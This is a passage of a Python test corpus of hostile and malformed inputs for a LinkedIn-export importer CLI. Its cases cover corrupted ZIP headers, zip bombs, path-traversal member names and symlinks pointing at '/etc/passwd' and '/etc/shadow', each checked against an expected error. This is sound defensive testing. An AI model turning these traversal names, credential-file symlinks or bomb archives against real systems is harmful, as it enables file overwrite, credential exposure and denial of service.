"""A corpus of hostile and malformed inputs for ``invitriage import``.

Every case is built deterministically, at test time, in an empty temporary directory: no binary
blob is committed. A case declares what it expects:

* an **error** (``problem`` is set): exit code 2 and one line,
  ``invitriage: error: <where>[:<line>]: ...<problem>...``, where ``<where>`` names the file (for an
  archive member ``archive.zip!member``); the database is left exactly as it was;
* a **lenient import** (``problem`` is None): exit code 0, and the rows in ``rows`` are stored with
  the values given (``new`` counts the rows added per table). ``why`` documents the choice.

``build_corpus()`` returns the list; ``tests/test_hostile.py`` runs it through the real CLI.
"""

from __future__ import annotations

import csv
import io
import os
import random
import stat
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

# -- the cases ----------------------------------------------------------------------------------


@dataclass
class Built:
    paths: list[str]  # the arguments of `invitriage import`
    where: str  # the file the error message must name (start of the message)


Builder = Callable[[Path], Built]
Expect = Any  # a value, or a predicate on the stored value


@dataclass
class Case:
    id: str
    category: str
    build: Builder
    problem: str | None = None  # an error case: a substring of the one-line message
    line: int | None = None  # ... and the line it must name, when known
    rows: list[tuple[str, dict[str, Any], dict[str, Expect]]] = field(default_factory=list)
    new: dict[str, int] = field(default_factory=dict)  # rows added per table (lenient cases)
    why: str = ""  # for a lenient case: why it imports
    skip_as_root: bool = False

    @property
    def is_error(self) -> bool:
        return self.problem is not None


#: For inputs whose exact problem depends on random bytes: the message must still name the file, then a
#: problem of several words (checked in test_hostile), not an empty or bare exception text.
ANY = "<any problem>"

# -- CSV helpers ----------------------------------------------------------------------------------

OWNER_URL = "https://www.linkedin.com/in/camille-laurent"
INV_HEADER = "From,To,Sent At,Message,Direction,inviterProfileUrl,inviteeProfileUrl"
CONN_HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On"
MSG_HEADER = "CONVERSATION ID,CONVERSATION TITLE,FROM,SENDER PROFILE URL,TO,RECIPIENT PROFILE URLS,DATE,SUBJECT,CONTENT,FOLDER"
PROFILE_HEADER = "First Name,Last Name,Maiden Name,Address,Birth Date,Headline,Summary,Industry,Zip Code,Geo Location"
PENDING_HEADER = "name,headline,profile_url,sent_at,note"
CONN_PREAMBLE = 'Notes:\n"When exporting your connection data, you may notice that some of the email addresses are missing."\n\n'


def line(*fields: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(fields)  # quotes cells holding CR or LF
    return out.getvalue()[:-2]


def slug(name: str) -> str:
    return "-".join("".join(c for c in name.lower() if c.isalnum() or c == " ").split()) or "x"


def inv(name: str = "Hostile Person", sent: str = "3/9/25, 8:43 PM", note: str = "", direction: str = "INCOMING",
        url: str | None = None) -> str:
    url = f"https://www.linkedin.com/in/{slug(name)}" if url is None else url
    return line(name, "Camille Laurent", sent, note, direction, url, OWNER_URL)


def invitations(*rows: str, header: str = INV_HEADER, eol: str = "\n") -> str:
    return eol.join([header, *rows]) + eol


def conn_row(first: str = "Hostile", last: str = "Conn", connected: str = "10 Mar 2025", url: str | None = None) -> str:
    url = f"https://www.linkedin.com/in/{slug(first + ' ' + last)}" if url is None else url
    return line(first, last, url, "", "Acme", "CEO", connected)


def connections(*rows: str, header: str = CONN_HEADER, preamble: str = CONN_PREAMBLE) -> str:
    return preamble + "\n".join([header, *rows]) + "\n"


def msg_row(content: str = "Hello", date: str = "2025-01-27 10:00:00 UTC", sender: str = "Hostile Sender",
            url: str | None = None) -> str:
    url = f"https://www.linkedin.com/in/{slug(sender)}" if url is None else url
    return line("c9", "", sender, url, "Camille Laurent", OWNER_URL, date, "", content, "INBOX")


def messages(*rows: str, header: str = MSG_HEADER) -> str:
    return "\n".join([header, *rows]) + "\n"


def profile_row(first: str = "Camille", headline: str = "Consultante") -> str:
    return line(first, "Laurent", "", "", "", headline, "", "", "", "Lyon")


def pending(*rows: str, header: str = PENDING_HEADER, eol: str = "\n") -> str:
    return eol.join([header, *rows]) + eol


def prow(name: str = "Pending Person", sent: str = "2026-09-03", note: str = "", headline: str = "",
         url: str | None = None) -> str:
    url = f"https://www.linkedin.com/in/{slug(name)}" if url is None else url
    return line(name, headline, url, sent, note)


# -- file-system builders ---------------------------------------------------------------------------


class Symlink:
    def __init__(self, target: str):
        self.target = target  # "{root}" is replaced by the export folder


class Fifo:
    pass


class Folder:
    pass


class Unreadable:
    def __init__(self, content: bytes):
        self.content = content


Content = str | bytes | Symlink | Fifo | Folder | Unreadable


def _as_bytes(content: str | bytes) -> bytes:
    return content.encode("utf-8") if isinstance(content, str) else content


def _write_tree(root: Path, files: dict[str, Content]) -> None:
    root.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        p = root / name
        p.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Symlink):
            os.symlink(content.target.replace("{root}", str(root)), p)
        elif isinstance(content, Fifo):
            os.mkfifo(p)
        elif isinstance(content, Folder):
            p.mkdir()
        elif isinstance(content, Unreadable):
            p.write_bytes(content.content)
            p.chmod(0)
        else:
            p.write_bytes(_as_bytes(content))


def folder(files: dict[str, Content], err: str | None = None) -> Builder:
    """An export folder; the error names ``err`` inside it (or the folder itself)."""

    def build(d: Path) -> Built:
        root = d / "export"
        _write_tree(root, files)
        return Built([str(root)], str(root / err) if err else str(root))

    return build


def zipped(files: dict[str, str | bytes], err: str | None = None, *, method: int = zipfile.ZIP_DEFLATED,
           mutate: Callable[[bytes], bytes] | None = None, name: str = "export.zip") -> Builder:
    """An export ZIP (``mutate`` rewrites its bytes); the error names ``zip!err`` (or the zip)."""

    def build(d: Path) -> Built:
        d.mkdir(parents=True, exist_ok=True)
        path = d / name
        data = zip_bytes(files, method=method)
        path.write_bytes(mutate(data) if mutate else data)
        return Built([str(path)], f"{path}!{err}" if err else str(path))

    return build


def raw_zip(make: Callable[[], bytes], err: str | None = None, name: str = "export.zip") -> Builder:
    def build(d: Path) -> Built:
        d.mkdir(parents=True, exist_ok=True)
        path = d / name
        path.write_bytes(make())
        return Built([str(path)], f"{path}!{err}" if err else str(path))

    return build


def single(name: str, content: Content, where: str | None = None) -> Builder:
    """One file on the command line (a pending list, or anything else)."""

    def build(d: Path) -> Built:
        _write_tree(d, {name: content})
        path = d / name
        return Built([str(path)], where.replace("{path}", str(path)) if where else str(path))

    return build


def inv_file(content: str | bytes) -> Builder:
    return folder({"Invitations.csv": content}, "Invitations.csv")


# -- ZIP helpers ---------------------------------------------------------------------------------


def zip_bytes(files: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED,
              symlinks: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, content in files.items():
            info = zipfile.ZipInfo(name, date_time=(2025, 3, 10, 12, 0, 0))
            info.compress_type = method
            info.external_attr = (stat.S_IFREG | 0o644) << 16
            zf.writestr(info, _as_bytes(content))
        for name, target in (symlinks or {}).items():
            info = zipfile.ZipInfo(name, date_time=(2025, 3, 10, 12, 0, 0))
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, target.encode())
    return buf.getvalue()


def _central_entries(data: bytes) -> list[tuple[int, str]]:
    """(offset, name) of every central-directory record."""
    out = []
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        nlen = struct.unpack_from("<H", data, pos + 28)[0]
        out.append((pos, data[pos + 46 : pos + 46 + nlen].decode("utf-8", "replace")))
        pos = data.find(b"PK\x01\x02", pos + 46)
    return out


def patch_central(data: bytes, member: str | None = None, *, method: int | None = None, flags: int | None = None,
                  csize: int | None = None, usize: int | None = None, crc: int | None = None,
                  local: bool = False) -> bytes:
    """Rewrite fields of the central record of ``member`` (all members when None), and the local header too."""
    buf = bytearray(data)
    for pos, name in _central_entries(data):
        if member is not None and name != member:
            continue
        local_off = struct.unpack_from("<I", buf, pos + 42)[0]
        for off, base in ((pos, 8), (local_off, 6)) if local else ((pos, 8),):
            if flags is not None:
                struct.pack_into("<H", buf, off + base, flags)
            if method is not None:
                struct.pack_into("<H", buf, off + base + 2, method)
            if crc is not None:
                struct.pack_into("<I", buf, off + base + 8, crc)
            if csize is not None:
                struct.pack_into("<I", buf, off + base + 12, csize)
            if usize is not None:
                struct.pack_into("<I", buf, off + base + 16, usize)
    return bytes(buf)


def member_data_offset(data: bytes, member: str) -> tuple[int, int]:
    """(start, length) of the compressed bytes of ``member``."""
    for pos, name in _central_entries(data):
        if name == member:
            local_off = struct.unpack_from("<I", data, pos + 42)[0]
            csize = struct.unpack_from("<I", data, pos + 20)[0]
            nlen, elen = struct.unpack_from("<HH", data, local_off + 26)
            return local_off + 30 + nlen + elen, csize
    raise KeyError(member)


def flip(data: bytes, offset: int, mask: int = 0xFF) -> bytes:
    buf = bytearray(data)
    buf[offset] ^= mask
    return bytes(buf)


def eocd_offset(data: bytes) -> int:
    return data.rfind(b"PK\x05\x06")


def central_offset(data: bytes) -> int:
    return struct.unpack_from("<I", data, eocd_offset(data) + 16)[0]


# -- the good export used inside archives ----------------------------------------------------------

GOOD_INVITATIONS = invitations(
    inv("Zip Person", note="Bonjour Camille, nous nous sommes rencontrés au salon"),
    inv("Zip Other", sent="3/1/25, 9:00 AM"),
)
GOOD_PROFILE = "\n".join([PROFILE_HEADER, profile_row()]) + "\n"
GOOD_EXPORT = {"Invitations.csv": GOOD_INVITATIONS, "Profile.csv": GOOD_PROFILE, "Skills.csv": "Name\nSEO\n"}


def good_zip() -> bytes:
    return zip_bytes(GOOD_EXPORT)


def on_day(day: str) -> Callable[[str], bool]:
    """A stored instant on that (UTC) day."""
    return lambda value: value.startswith(day + "T")


def prng(seed: int) -> random.Random:
    return random.Random(seed)


# -- the corpus ------------------------------------------------------------------------------------


def _zip_structure() -> list[Case]:
    cat = "zip-structure"
    cases: list[Case] = []
    size = len(good_zip())
    for frac in (0.0, 0.01, 0.05, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99):
        n = int(size * frac)
        cases.append(Case(f"zip-truncated-{int(frac * 100)}pct", cat,
                          zipped(GOOD_EXPORT, mutate=lambda d, n=n: d[:n]), "not a readable ZIP archive"))
    cases.append(Case("zip-truncated-last-byte", cat, zipped(GOOD_EXPORT, mutate=lambda d: d[:-1]),
                      "not a readable ZIP archive"))
    cases.append(Case("zip-only-local-header", cat, raw_zip(lambda: b"PK\x03\x04 truncated"), "not a readable ZIP archive"))

    def data_flip(k: int) -> Callable[[bytes], bytes]:
        def mutate(d: bytes) -> bytes:
            start, length = member_data_offset(d, "Invitations.csv")
            return flip(d, start + (k * length) // 8)
        return mutate

    for k in range(8):
        cases.append(Case(f"zip-corrupt-member-data-{k}", cat,
                          zipped(GOOD_EXPORT, "Invitations.csv", mutate=data_flip(k)), "cannot read"))

    def stored_flip(d: bytes) -> bytes:
        start, length = member_data_offset(d, "Invitations.csv")
        return flip(d, start + length // 2, 0x01)

    cases.append(Case("zip-stored-member-bad-crc", cat,
                      zipped(GOOD_EXPORT, "Invitations.csv", method=zipfile.ZIP_STORED, mutate=stored_flip),
                      "cannot read"))
    cases.append(Case("zip-wrong-crc-in-directory", cat,
                      zipped(GOOD_EXPORT, "Invitations.csv", mutate=lambda d: patch_central(d, "Invitations.csv", crc=0xDEADBEEF)),
                      "cannot read"))
    for method, label in ((9, "deflate64"), (99, "aes"), (6, "implode"), (97, "wavpack")):
        cases.append(Case(f"zip-unsupported-method-{label}", cat,
                          zipped(GOOD_EXPORT, "Invitations.csv",
                                 mutate=lambda d, m=method: patch_central(d, "Invitations.csv", method=m, local=True)),
                          "cannot read"))
    cases.append(Case("zip-encrypted-flag", cat,
                      zipped(GOOD_EXPORT, "Invitations.csv", mutate=lambda d: patch_central(d, "Invitations.csv", flags=0x1, local=True)),
                      "cannot read"))
    cases.append(Case("zip-strong-encryption-flag", cat,
                      zipped(GOOD_EXPORT, "Invitations.csv", mutate=lambda d: patch_central(d, "Invitations.csv", flags=0x40, local=True)),
                      "cannot read"))
    cases.append(Case("zip-patched-data-flag", cat,
                      zipped(GOOD_EXPORT, "Invitations.csv", mutate=lambda d: patch_central(d, "Invitations.csv", flags=0x20, local=True)),
                      "cannot read"))

    def rename_local(d: bytes) -> bytes:
        start = d.find(b"Invitations.csv")  # the first occurrence is the local header's name
        return d[:start] + b"Invitations.csX" + d[start + 15:]

    cases.append(Case("zip-local-name-differs", cat, zipped(GOOD_EXPORT, "Invitations.csv", mutate=rename_local), "cannot read"))

    def eocd_disk(d: bytes) -> bytes:
        buf = bytearray(d)
        struct.pack_into("<H", buf, eocd_offset(d) + 4, 3)
        return bytes(buf)

    cases.append(Case("zip-eocd-disk-number", cat, zipped(GOOD_EXPORT, mutate=eocd_disk), new={"invitations": 2},
                      why="zipfile reads a one-file archive whatever its disk-number fields say"))

    def bad_central_offset(d: bytes) -> bytes:
        buf = bytearray(d)
        struct.pack_into("<I", buf, eocd_offset(d) + 16, 0x7FFFFFFF)
        return bytes(buf)

    cases.append(Case("zip-central-offset-beyond-end", cat, zipped(GOOD_EXPORT, mutate=bad_central_offset), ANY))

    def eocd_count(d: bytes) -> bytes:
        buf = bytearray(d)
        struct.pack_into("<HH", buf, eocd_offset(d) + 8, 9, 9)
        return bytes(buf)

    cases.append(Case("zip-eocd-entry-count-wrong", cat, zipped(GOOD_EXPORT, mutate=eocd_count), "directory is damaged"))
    # One byte of the first central-directory record (Invitations.csv) flipped, field by field.
    central_flips = {
        "version-made-by": (4, None, "zipfile does not use it"),
        "version-needed": (6, "not a readable ZIP archive", ""),
        "method-high-byte": (11, "cannot read", ""),
        "crc": (16, "cannot read", ""),
        "compressed-size": (21, None, "the deflate stream ends by itself and the CRC still matches"),
        "uncompressed-size": (25, None, "an overstated size is harmless: the CRC of what was read still matches"),
        "name-length": (28, ANY, ""),
        "extra-length": (30, "not a readable ZIP archive", ""),
        "comment-length": (32, "directory is damaged", ""),
        "disk-number": (34, None, "zipfile ignores it in a one-file archive"),
        "external-attributes": (39, None, "DOS attribute bits, unused"),
        "local-header-offset": (42, "cannot read", ""),
    }
    for label, (offset, problem, why) in central_flips.items():
        mutate = (lambda d, o=offset: flip(d, central_offset(d) + o))
        where = "Invitations.csv" if problem == "cannot read" else None
        if problem is None:
            cases.append(Case(f"zip-central-flip-{label}", cat, zipped(GOOD_EXPORT, where, mutate=mutate),
                              new={"invitations": 2}, why=why))
        else:
            cases.append(Case(f"zip-central-flip-{label}", cat, zipped(GOOD_EXPORT, where, mutate=mutate), problem))

    def cut_middle(d: bytes) -> bytes:
        start, length = member_data_offset(d, "Invitations.csv")
        return d[: start + 5] + d[start + length // 2 :]

    cases.append(Case("zip-bytes-cut-from-member", cat, zipped(GOOD_EXPORT, mutate=cut_middle), ANY))
    cases.append(Case("zip-text-named-zip", cat, raw_zip(lambda: b"From,To\nA,B\n"), "not a readable ZIP archive"))
    cases.append(Case("zip-empty-file", cat, raw_zip(lambda: b""), "not a readable ZIP archive"))
    cases.append(Case("zip-gzip-named-zip", cat, raw_zip(lambda: b"\x1f\x8b\x08\x00" + bytes(range(256)) * 4),
                      "not a readable ZIP archive"))
    cases.append(Case("zip-valid-but-no-members", cat, raw_zip(lambda: zip_bytes({})), "no LinkedIn export files found"))
    cases.append(Case("zip-only-directories", cat, raw_zip(lambda: zip_bytes({"a/": b"", "a/b/": b""})),
                      "no LinkedIn export files found"))
    cases.append(Case("zip-only-other-files", cat, raw_zip(lambda: zip_bytes({"Skills.csv": "Name\nSEO\n",
                                                                           "Rich_Media.csv": "x\n"})),
                      "no LinkedIn export files found"))
    cases.append(Case("zip-with-comment-and-prefix", cat,
                      raw_zip(lambda: b"#!/bin/sh\nexit 0\n" + good_zip()),
                      rows=[("invitations", {"name": "Zip Person"}, {"direction": "INCOMING"})],
                      new={"invitations": 2},
                      why="a self-extracting prefix before the archive is harmless: zipfile finds the directory"))
    cases.append(Case("zip-good-control", cat, raw_zip(good_zip),
                      rows=[("invitations", {"name": "Zip Person"}, {"note": "Bonjour Camille, nous nous sommes rencontrés au salon"})],
                      new={"invitations": 2}, why="control: the good archive imports"))
    cases.append(Case("zip-macos-appledouble", cat,
                      raw_zip(lambda: zip_bytes({**GOOD_EXPORT, "__MACOSX/._Invitations.csv": b"\x00\x05\x16\x07\x00\x02" * 20})),
                      new={"invitations": 2}, why="Finder's __MACOSX/._* resource forks are other files: ignored"))
    cases.append(Case("zip-duplicate-member-in-subfolders", cat,
                      raw_zip(lambda: zip_bytes({**GOOD_EXPORT, "copy/Invitations.csv": GOOD_INVITATIONS})),
                      new={"invitations": 2}, why="the same file twice: the second copy adds nothing"))
    cases.append(Case("zip-member-name-case", cat,
                      raw_zip(lambda: zip_bytes({"INVITATIONS.CSV": GOOD_INVITATIONS})),
                      new={"invitations": 2}, why="file names are matched without case"))
    cases.append(Case("zip-bzip2-and-lzma-members", cat,
                      raw_zip(lambda: zip_bytes({"Invitations.csv": GOOD_INVITATIONS}, method=zipfile.ZIP_LZMA)),
                      new={"invitations": 2}, why="every compression method zipfile knows is read"))
    return cases


def _zip_bomb() -> list[Case]:
    cat = "zip-bomb"
    cases: list[Case] = []
    cases.append(Case("bomb-50mb-zeros-ratio", cat,
                      raw_zip(lambda: zip_bytes({"Invitations.csv": b"\0" * (50 * 1024 * 1024)}), "Invitations.csv"),
                      "zip bomb"))
    cases.append(Case("bomb-50mb-csv-text-ratio", cat,
                      raw_zip(lambda: zip_bytes({"Invitations.csv": (INV_HEADER + "\n").encode()
                                                 + (inv("Same Person") + "\n").encode() * 500_000}), "Invitations.csv"),
                      "zip bomb"))
    cases.append(Case("bomb-header-claims-4gb", cat,
                      raw_zip(lambda: patch_central(good_zip(), "Invitations.csv", usize=0xFFFFFFF0), "Invitations.csv"),
                      "too large"))
    cases.append(Case("bomb-header-claims-600mb-small-data", cat,
                      raw_zip(lambda: patch_central(good_zip(), "Invitations.csv", usize=600 * 1024 * 1024), "Invitations.csv"),
                      "too large"))
    cases.append(Case("bomb-compressed-size-zero", cat,
                      raw_zip(lambda: patch_central(good_zip(), "Invitations.csv", usize=300 * 1024 * 1024, csize=0),
                              "Invitations.csv"),
                      "zip bomb"))
    cases.append(Case("bomb-header-understates-size", cat,
                      raw_zip(lambda: patch_central(zip_bytes({"Invitations.csv": GOOD_INVITATIONS * 50}), "Invitations.csv",
                                                    usize=100), "Invitations.csv"),
                      "cannot read"))

    def many_members() -> bytes:
        files = {f"part{i:02d}/Invitations.csv": GOOD_INVITATIONS for i in range(60)}
        data = zip_bytes(files)
        return patch_central(data, usize=9 * 1024 * 1024 + 512 * 1024)

    cases.append(Case("bomb-many-members-sum", cat, raw_zip(many_members), "too large"))
    cases.append(Case("bomb-10mb-zeros-under-ratio-limit", cat,
                      raw_zip(lambda: zip_bytes({"Invitations.csv": b"\0" * (10 * 1024 * 1024)}), "Invitations.csv"),
                      "NUL"))
    cases.append(Case("bomb-in-ignored-member", cat,
                      raw_zip(lambda: patch_central(good_zip(), "Skills.csv", usize=0xFFFFFFF0)),
                      new={"invitations": 2},
                      why="a member that is never read (Skills.csv) cannot explode: it is listed as ignored"))
    cases.append(Case("bomb-nested-zip-of-zeros", cat,
                      raw_zip(lambda: zip_bytes({**GOOD_EXPORT, "inner.zip": zip_bytes({"Invitations.csv": b"\0" * (20 * 1024 * 1024)})})),
                      new={"invitations": 2}, why="nested archives are never opened: listed as ignored"))
    return cases


def _path_traversal() -> list[Case]:
    cat = "path-traversal"
    names = {
        "dotdot": "../../etc/Invitations.csv",
        "dotdot-deep": "a/b/../../../Invitations.csv",
        "absolute": "/etc/Invitations.csv",
        "backslash-dotdot": "..\\..\\Invitations.csv",
        "windows-drive": "C:/Users/x/Invitations.csv",
        "windows-drive-backslash": "C:\\Users\\x\\Invitations.csv",
        "dot-slash-dotdot": "./../Invitations.csv",
        "other-file-dotdot": "../../../home/user/.bashrc",
        "unc-path": "\\\\server\\share\\Invitations.csv",
    }
    cases = []
    for label, name in names.items():
        cases.append(Case(f"traversal-{label}", cat,
                          raw_zip(lambda name=name: zip_bytes({**GOOD_EXPORT, name: GOOD_INVITATIONS}), name),
                          "unsafe path"))
    return cases


def _symlinks() -> list[Case]:
    cat = "symlink"
    cases = [
        Case("zip-symlink-export-name", cat,
             raw_zip(lambda: zip_bytes(GOOD_EXPORT | {}, symlinks={"Connections.csv": "/etc/passwd"}), "Connections.csv"),
             "symbolic link"),
        Case("zip-symlink-other-name", cat,
             raw_zip(lambda: zip_bytes(GOOD_EXPORT, symlinks={"Rich_Media.csv": "../../../../etc/shadow"}), "Rich_Media.csv"),
             "symbolic link"),
        Case("zip-symlink-to-sibling", cat,
             raw_zip(lambda: zip_bytes({"Profile.csv": GOOD_PROFILE}, symlinks={"Invitations.csv": "Profile.csv"}),
                     "Invitations.csv"),
             "symbolic link"),
        Case("folder-symlink-to-etc-passwd", cat,
             folder({"Profile.csv": GOOD_PROFILE, "Invitations.csv": Symlink("/etc/passwd")}, "Invitations.csv"),
             "symbolic link"),
        Case("folder-symlink-to-sibling", cat,
             folder({"real.csv": GOOD_INVITATIONS, "Invitations.csv": Symlink("{root}/real.csv")}, "Invitations.csv"),
             "symbolic link"),
        Case("folder-dangling-symlink", cat,
             folder({"Profile.csv": GOOD_PROFILE, "Invitations.csv": Symlink("{root}/missing.csv")}, "Invitations.csv"),
             "symbolic link"),
        Case("folder-symlink-loop", cat,
             folder({"Profile.csv": GOOD_PROFILE, "Invitations.csv": Symlink("{root}/Invitations.csv")}, "Invitations.csv"),
             "symbolic link"),
        Case("folder-symlink-to-dev-zero", cat,
             folder({"Profile.csv": GOOD_PROFILE, "messages.csv": Symlink("/dev/zero")}, "messages.csv"),
             "symbolic link"),
        Case("folder-symlinked-subfolder-not-followed", cat,
             folder({"real/Invitations.csv": GOOD_INVITATIONS, "top/linked": Symlink("{root}/real")}),
             new={"invitations": 2},
             why="a symlinked sub-folder is not followed (only the real copy is read)"),
        Case("folder-symlink-other-name-ignored", cat,
             folder({"Invitations.csv": GOOD_INVITATIONS, "Skills.csv": Symlink("/etc/shadow")}),
             new={"invitations": 2}, why="a symlink that is not an export file is only listed as ignored"),
        Case("cmdline-symlink-to-pending-list", cat,
             lambda d: _cmdline_symlink(d),
             rows=[("invitations", {"name": "Linked Pending"}, {"sent_at": on_day("2026-09-03")})],
             why="a path the user names on the command line is theirs to point anywhere"),
        Case("cmdline-fifo", cat, single("pending.csv", Fifo()), "not a regular file"),
        Case("cmdline-dev-null", cat, lambda d: Built(["/dev/null"], "/dev/null"), "not a regular file"),
        Case("folder-fifo-named-invitations", cat, folder({"Invitations.csv": Fifo()}),
             "no LinkedIn export files found"),
    ]
    return cases


def _cmdline_symlink(d: Path) -> Built:
    d.mkdir(parents=True, exist_ok=True)
    real = d / "real.txt"
    real.write_text(pending(prow("Linked Pending")), encoding="utf-8")
    link = d / "pending.csv"
    os.symlink(real, link)
    return Built([str(link)], str(link))


def _nested() -> list[Case]:
    cat = "nested-archive"
    inner = lambda: zip_bytes(GOOD_EXPORT)  # noqa: E731
    return [
        Case("zip-holding-only-a-zip", cat, raw_zip(lambda: zip_bytes({"Basic_LinkedInDataExport.zip": inner()})),
             "holds an archive"),
        Case("zip-holding-zip-and-profile", cat,
             raw_zip(lambda: zip_bytes({"Profile.csv": GOOD_PROFILE, "inner.zip": inner()})),
             rows=[("owner", {"id": 1}, {"first_name": "Camille", "headline": "Consultante"})],
             why="the nested archive is listed as ignored; the rest imports"),
        Case("zip-member-invitations-is-a-zip", cat,
             raw_zip(lambda: zip_bytes({"Invitations.csv": inner()}), "Invitations.csv"), "NUL"),
        Case("folder-holding-only-a-zip", cat, folder({"export.zip": inner()}), "holds an archive"),
        Case("folder-invitations-is-a-gzip", cat,
             inv_file(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(range(200))), "NUL"),
        Case("pending-csv-that-is-a-zip", cat, single("pending.csv", inner()), "is a ZIP archive"),
        Case("pending-jsonl-that-is-a-zip", cat, single("pending.jsonl", inner()), "is a ZIP archive"),
        Case("xlsx-workbook", cat, single("invitations.xlsx", inner()), "unsupported file type"),
        Case("tar-named-zip", cat, raw_zip(lambda: b"Invitations.csv" + b"\0" * 85 + b"0000644\0" + b"\0" * 400),
             "not a readable ZIP archive"),
    ]


def _columns() -> list[Case]:
    cat = "columns"
    cases: list[Case] = []
    inv_cols = INV_HEADER.split(",")
    for col in ("From", "To", "Sent At", "Direction"):
        header = ",".join(c for c in inv_cols if c != col)
        row = line(*["x"] * (len(inv_cols) - 1))
        cases.append(Case(f"invitations-missing-{slug(col)}", cat, inv_file(f"{header}\n{row}\n"),
                          f"missing column(s) '{col.lower()}'", line=1))
    conn_cols = CONN_HEADER.split(",")
    for col in ("First Name", "Last Name", "Connected On"):
        header = ",".join(c for c in conn_cols if c != col)
        cases.append(Case(f"connections-missing-{slug(col)}", cat,
                          folder({"Connections.csv": f"{header}\nA,B,C,D,E,F\n"}, "Connections.csv"),
                          f"missing column(s) '{col.lower()}'", line=1))
    msg_cols = MSG_HEADER.split(",")
    for col in ("FROM", "DATE", "CONTENT"):
        header = ",".join(c for c in msg_cols if c != col)
        cases.append(Case(f"messages-missing-{slug(col)}", cat,
                          folder({"messages.csv": f"{header}\n"}, "messages.csv"), f"missing column(s) '{col.lower()}'", line=1))
    prof_cols = PROFILE_HEADER.split(",")
    for col in ("First Name", "Last Name", "Headline"):
        header = ",".join(c for c in prof_cols if c != col)
        cases.append(Case(f"profile-missing-{slug(col)}", cat,
                          folder({"Profile.csv": f"{header}\n"}, "Profile.csv"), f"missing column(s) '{col.lower()}'", line=1))
    cases += [
        Case("invitations-duplicate-sent-at", cat,
             inv_file(invitations(inv() + ",x", header=INV_HEADER + ",Sent At")), "duplicate column 'sent at'", line=1),
        Case("invitations-duplicate-case-and-space", cat,
             inv_file(invitations(inv() + ",x", header=INV_HEADER + ", MESSAGE ")), "duplicate column 'message'", line=1),
        Case("connections-duplicate-url-after-preamble", cat,
             folder({"Connections.csv": connections(conn_row() + ",x", header=CONN_HEADER + ",URL")}, "Connections.csv"),
             "duplicate column 'url'", line=4),
        Case("messages-duplicate-content", cat,
             folder({"messages.csv": messages(msg_row() + ",x", header=MSG_HEADER + ",CONTENT")}, "messages.csv"),
             "duplicate column 'content'", line=1),
        Case("profile-duplicate-headline", cat,
             folder({"Profile.csv": PROFILE_HEADER + ",Headline\n" + profile_row() + ",x\n"}, "Profile.csv"),
             "duplicate column 'headline'", line=1),
        Case("pending-duplicate-name", cat, single("pending.csv", pending(prow() + ",x", header=PENDING_HEADER + ",name")),
             "duplicate column 'name'", line=1),
        Case("pending-alias-collision-note-message", cat,
             single("pending.csv", pending(prow() + ",x", header=PENDING_HEADER + ",message")), "'message'", line=1),
        Case("pending-alias-collision-date-sent-at", cat,
             single("pending.csv", pending(prow() + ",2026-01-01", header=PENDING_HEADER + ",date")), "'date'", line=1),
        Case("pending-missing-sent-at", cat, single("pending.csv", "name,headline\nA Nodate,B\n"),
             rows=[("invitations", {"name": "A Nodate"}, {"date_precision": "unknown"})],
             why="a pending list may have no dates: the invitation is dated when the list was made, precision unknown"),
        Case("pending-missing-name", cat, single("pending.csv", "headline,sent_at\nA,2026-01-01\n"), "missing column 'name'", line=1),
        Case("pending-header-not-first-line", cat, single("pending.csv", "My invitations\n" + pending(prow())),
             "missing column 'name'", line=1),
        Case("invitations-row-with-extra-fields", cat,
             inv_file(invitations(inv("Extra A"), inv("Extra B") + ",surprise,more")), "row has 9 fields but the header has 7",
             line=3),
        Case("pending-row-with-extra-fields", cat,
             single("pending.csv", pending(prow("P A"), prow("P B"), prow("P C") + ",oops")), "row has 6 fields", line=4),
        Case("invitations-row-missing-direction", cat,
             inv_file(invitations(inv("Short A"), line("Short B", "Camille Laurent", "3/9/25, 8:43 PM", "hi"))),
             "Direction must be INCOMING or OUTGOING, not ''", line=3),
        Case("pending-row-missing-sent-at", cat,
             single("pending.csv", pending(prow("P A"), line("P B", "Headline"))),
             rows=[("invitations", {"name": "P B"}, {"date_precision": "unknown"})], why="a row without a date is seen pending now"),
        Case("pending-relative-dates", cat,
             single("pending.csv", "name,profile_url,sent_at\nRel A,https://www.linkedin.com/in/rel-a,3 days ago\n"
                                   "Rel B,https://www.linkedin.com/in/rel-b,Yesterday\nRel C,https://www.linkedin.com/in/rel-c,2 weeks ago\n"),
             rows=[("invitations", {"name": "Rel C"}, {"date_precision": "week"})],
             why="dates copied from the invitation page are relative to when the list was made"),
        Case("pending-row-empty-name", cat, single("pending.csv", pending(prow("P A"), prow(" "))),
             "missing value for 'name'", line=3),
        Case("invitations-neither-name-nor-url", cat, inv_file(invitations(inv(" ", url=""))),
             "neither a name nor a profile URL", line=2),
        Case("connections-content-in-invitations", cat, inv_file(connections(conn_row())), "no column", line=1),
        Case("invitations-tab-separated", cat, inv_file(invitations(inv().replace(",", "\t"), header=INV_HEADER.replace(",", "\t"))),
             "no column", line=1),
        Case("invitations-semicolon-separated", cat,
             inv_file("From;To;Sent At;Message;Direction\nA;B;3/9/25;;INCOMING\n"), "separated by ';'", line=1),
        Case("connections-preamble-too-long", cat,
             folder({"Connections.csv": "note\n" * 30 + CONN_HEADER + "\n" + conn_row() + "\n"}, "Connections.csv"),
             "no column", line=1),
        Case("invitations-bad-direction", cat, inv_file(invitations(inv(direction="SIDEWAYS"))),
             "Direction must be INCOMING or OUTGOING, not 'SIDEWAYS'", line=2),
        Case("invitations-second-header-mid-file", cat,
             inv_file(invitations(inv("Concat A")) + invitations(inv("Concat B"))), "Direction must be", line=3),
    ]
    # lenient shapes
    reordered = ",".join(reversed(INV_HEADER.split(",")))
    rev_row = line(*reversed(next(csv.reader([inv("Reversed Person", note="rev")]))))
    cases += [
        Case("invitations-columns-reordered", cat, inv_file(invitations(rev_row, header=reordered)),
